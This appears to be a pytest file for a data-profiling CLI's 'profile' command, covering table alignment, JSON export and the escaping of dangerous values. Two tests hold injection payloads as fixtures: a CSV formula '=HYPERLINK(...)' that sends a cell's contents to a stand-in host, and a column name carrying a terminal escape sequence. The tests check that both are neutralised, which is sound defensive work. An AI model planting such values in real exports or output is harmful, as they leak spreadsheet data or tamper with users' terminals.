"""`sluice profile JOB` prints a column table a person can read: whole timestamps, aligned columns."""

from __future__ import annotations

from sluice.cli import CSV_COLUMNS, _column_row, _describe_profile, to_dict
from sluice.v1 import profile_pb2


def test_the_column_table_keeps_timestamps_whole_and_aligned() -> None:
    profile = profile_pb2.Profile(row_count=3, column_count=3)
    columns = [
        profile_pb2.ColumnProfile(
            name="ordered_at",
            inferred_type="datetime",
            distinct=3,
            min="2026-01-01T00:04:00+00:00",
            max="2026-10-27T23:41:00+00:00",
        ),
        profile_pb2.ColumnProfile(name="country", inferred_type="categorical", distinct=2, min="DE", max="FR"),
        profile_pb2.ColumnProfile(
            name="a_column_name_much_longer_than_the_table_allows",
            inferred_type="text",
            distinct=3,
            min="a value far too long for its cell",
            max="z",
        ),
    ]
    lines = _describe_profile(profile, columns).splitlines()
    table = lines[lines.index(next(line for line in lines if line.startswith("column"))) :]
    assert "2026-01-01 00:04:00" in table[1] and "2026-10-27 23:41:00" in table[1]
    assert "a_column_name_much_long\u2026" in table[3] and "a value far too lo\u2026" in table[3]
    # Every row lines up with the header: the type and the numbers start at the same place.
    assert len({len(line) for line in table}) == 1
    assert {line[25:36].strip() for line in table} == {"type", "datetime", "categorical", "text"}


def test_the_csv_export_shows_formula_like_names_as_text_and_keeps_negative_numbers() -> None:
    """A column named '=HYPERLINK(...)' was written as it is, and a spreadsheet opening the export ran it."""
    columns = [
        profile_pb2.ColumnProfile(name='=HYPERLINK("http://example.invalid/"&A1,"x")', inferred_type="text"),
        profile_pb2.ColumnProfile(name="-balance", inferred_type="integer", min="-5", max="7"),
        profile_pb2.ColumnProfile(name="plain", inferred_type="integer", min="-1", max="1"),
    ]
    rows = [_column_row(c) for c in columns]
    assert [r[CSV_COLUMNS.index("name")] for r in rows] == [
        '\'=HYPERLINK("http://example.invalid/"&A1,"x")',
        "'-balance",
        "plain",
    ]
    assert [r[CSV_COLUMNS.index("min")] for r in rows] == ["", "-5", "-1"]  # numbers stay numbers


def test_the_json_export_has_every_field_those_at_zero_too() -> None:
    column = profile_pb2.ColumnProfile(name="id", position=0, inferred_type="integer", count=3, missing=0)
    exported = to_dict(column)
    # int64 fields as strings, as protobuf's JSON writes them
    assert (exported["position"], exported["missing"], exported["invalid"]) == (0, "0", "0")
    assert exported["name"] == "id" and exported["count"] == "3"


def test_the_column_table_shows_long_numbers_whole_and_control_characters_escaped() -> None:
    """A maximum of 1.2345678901234568e+29 was cut to '1.2345678901234568…' (read as about 1.2); a line break in a
    name split its row, and an escape sequence reached the terminal."""
    profile = profile_pb2.Profile(row_count=2, column_count=2)
    profile.alerts.add(severity="info", code="UNIQUE", message="'odd\nname\x1b[2J' has unique values")
    columns = [
        profile_pb2.ColumnProfile(
            name="big", inferred_type="float", min="-1.2345678901234568e-05", max="1.2345678901234568e+29"
        ),
        profile_pb2.ColumnProfile(name="odd\nname\x1b[2J", inferred_type="text"),
    ]
    text = _describe_profile(profile, columns)
    assert "\x1b" not in text
    lines = text.splitlines()
    table = lines[lines.index(next(line for line in lines if line.startswith("column"))) :]
    assert len(table) == 3 and table[2].startswith("odd\\nname\\x1b[2J")
    assert "-1.234567890123e-05" in table[1] and "1.2345678901235e+29" in table[1]  # 19 characters each
